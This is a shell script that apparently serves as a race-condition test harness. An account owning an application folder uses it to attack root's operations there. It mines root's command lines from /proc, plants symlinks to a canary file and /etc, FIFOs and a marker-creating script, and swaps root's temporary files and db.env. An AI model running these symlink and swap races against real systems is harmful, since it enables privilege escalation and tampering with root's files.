#!/bin/sh
# race.sh APP CANARY RAN: what an account can do that owns the application's folder APP and wants to read or change root's
# file CANARY, or have something run as root that makes RAN. Until it is killed; it prints a
# line for each thing that it has planted, and for each file of the run that it has swapped.
app=$1 canary=$2 ran=$3
cd "$app" || exit 1
evil="#!/bin/sh
[ \"\$(id -u)\" != 0 ] || : > $ran"
plant() {
    case $((turn % 5)) in
    0) ln -s "$canary" "$1" ;;
    1) mkdir "$1" ;;
    2) mkfifo "$1" ;;
    3) printf '%s\n' "$evil" > "$1"; chmod 755 "$1" ;;
    4) ln -s /etc "$1" ;;
    esac 2>/dev/null && echo planted
}
turn=0
while :; do
    turn=$((turn + 1))
    # every name below the folder that stands on a command line of root's, and those that can be made from it
    for name in $(cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\0 '\''"' '\n\n\n\n' | grep -a -o -F -e "$app/.*" -e '.cutover.*' \
        ; cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\0 '\''"=;' '\n\n\n\n\n\n' | grep -a -o -e "$app/[A-Za-z0-9._-]*" | sort -u); do
        name=${name##*/}
        case $name in db.env | '' | . | ..) continue ;; esac
        for one in "$name" "$name.part" "$name.new" "$name.bak"; do
            case $((turn % 3)) in
            0) rm -rf "./$one" 2>/dev/null ;;
            *) plant "./$one" ;;
            esac
        done
    done
    # what root makes there while it makes it
    for new in .cutover.* .cutover-*; do
        [ -f "$new" ] && [ ! -L "$new" ] || continue
        mv "$new" "$new.aside" 2>/dev/null && echo swapped && plant "./$new"
        rm -rf "./$new.aside"
    done
    # and the file itself, for moments
    if [ $((turn % 4)) = 0 ] && [ -f db.env ] && [ ! -L db.env ]; then
        mv db.env mine 2>/dev/null && echo swapped && plant ./db.env
        sleep 0.0$((turn % 7))
        rm -rf ./db.env
        mv -n mine db.env 2>/dev/null
    fi
    [ -e db.env ] || cp mine db.env 2>/dev/null || echo 'DB_HOST=127.0.0.1' > db.env
    # a while of peace now and then, or no switch would ever come to its end, and processors for whoever is raced
    if [ $((turn % 20)) -lt 12 ]; then sleep 0.02; else sleep 0.3; fi
done
